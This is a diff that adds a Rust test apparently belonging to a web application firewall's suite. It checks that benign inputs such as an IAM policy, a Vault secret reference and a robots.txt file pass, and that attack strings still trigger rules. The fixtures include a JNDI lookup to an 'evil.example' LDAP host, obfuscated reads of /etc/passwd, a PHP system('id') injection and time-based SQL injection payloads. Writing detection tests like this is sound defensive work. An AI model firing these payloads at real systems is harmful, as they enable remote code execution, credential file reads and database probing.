@@ -5946,3 +5946,56 @@ fn holdout74_to_76_shapes_pass_and_their_attacks_still_score() {
     let o = outcome(&waf, "/login?user[$ne]=admin&password[$ne]=x");
     assert!(o.blocked, "{o:?}");
 }
+
+#[test]
+fn holdout77_to_79_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let fires = |o: &Outcome, id: u32| o.matches.iter().any(|m| m.rule_id == id);
+    // An IAM policy's variables and a connector's secret reference: `${name:word}` expands to no
+    // more than `$name` in a shell and parses as no PHP.
+    let policy = serde_json::json!({
+        "Version": "2012-10-17",
+        "Statement": [{
+            "Effect": "Allow",
+            "Action": ["ec2:StartInstances", "ec2:StopInstances"],
+            "Resource": "arn:aws:ec2:*:*:instance/*",
+            "Condition": {"StringLike": {"ec2:ResourceTag/Owner": "${aws:username}"}}
+        }]
+    });
+    assert!(!json_post(&waf, &policy.to_string()).blocked);
+    for v in ["${aws:username}", "${vault:secret/data/cdc/orders:password}"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(!fires(&o, 3201) && !fires(&o, 3305), "{v}: {o:?}");
+        }
+    }
+    // A robots.txt file's patterns; a program's pause.
+    let robots = "# robots.txt\nUser-agent: *\nDisallow: /checkout/\nDisallow: /search?\nDisallow: /*?sessionid=\nAllow: /search?q=$\n\nUser-agent: GPTBot\nDisallow: /\nCrawl-delay: 5\nSitemap: https://www.example-travel.example/sitemap_index.xml\n";
+    let firmware = "import time, machine\nled = machine.Pin(\"LED\", machine.Pin.OUT)\nwhile True:\n    led.toggle()\n    time.sleep(300)\n";
+    for doc in [robots, firmware] {
+        let o = json_post(&waf, &serde_json::json!({ "content": doc }).to_string());
+        assert!(!o.blocked, "{doc}: {o:?}");
+    }
+    assert!(context::robots_rules(robots.to_ascii_lowercase().as_bytes()));
+    // What still counts: a number for an offset or a length, an address after the name, a glob
+    // outside a robots file, `sleep(` called on nothing or after a concatenating dot.
+    for (v, id) in [
+        ("cat${PATH:0:1}etc${PATH:0:1}passwd", 3201),
+        ("x=${PATH:a:1}", 3201),
+        ("${jndi:ldap://evil.example/a}", 3201),
+        ("${system('id')}", 3305),
+        ("cat /e??/p?ss?d", 3205),
+        ("1 and sleep(5)", 4204),
+        ("file:/init.ini'.sleep(12).'", 4204),
+        ("1;select pg_catalog.pg_sleep(5)", 4204),
+        ("1 and benchmark(5000000,md5(1))", 4204),
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(fires(&o, id), "{v}: {o:?}");
+        }
+    }
+    let o = json_post(
+        &waf,
+        &serde_json::json!({ "content": robots.replace("Crawl-delay: 5", "cat /e??/p?ss?d") }).to_string(),
+    );
+    assert!(fires(&o, 3205), "{o:?}");
+}
